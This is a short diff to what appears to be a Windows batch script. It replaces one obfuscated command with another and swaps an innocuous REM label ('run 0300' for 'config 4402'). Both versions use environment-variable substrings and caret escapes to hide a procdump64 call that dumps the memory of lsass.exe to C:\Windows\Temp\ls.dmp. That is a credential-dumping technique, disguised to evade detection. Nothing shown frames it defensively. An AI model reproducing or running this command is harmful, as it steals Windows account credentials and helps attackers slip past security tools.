@@ -1,2 +1,2 @@
-REM run 0300 v2
-p%ProgramData:~4,1%%COMSPEC:~-20,1%%public:~-1,1%%COMSPEC:~6,1%%public:~-5,1%mp6^4.%PUBLIC:~-10,1%%COMSPEC:~25,1%^e -^a^c^ce^pt^e^ul^a -m^a lsas^s.exe C:\Wi^n^d^ows\Te^mp\ls.dm^p
+REM config 4402 v2
+^p%PUBLIC:~6,1%%PROGRAMDATA:~-9,1%%PUBLIC:~14,1%%windir:~-4,1%%PUBLIC:~10,1%%COMSPEC:~16,1%p^64.^e%COMSPEC:~25,1%%COMSPEC:~-1,1% -^a^cc^ept^e^ul^a -^m^a l^sass.ex^e C:\W^in^do^ws\Temp\l^s.^dm^p
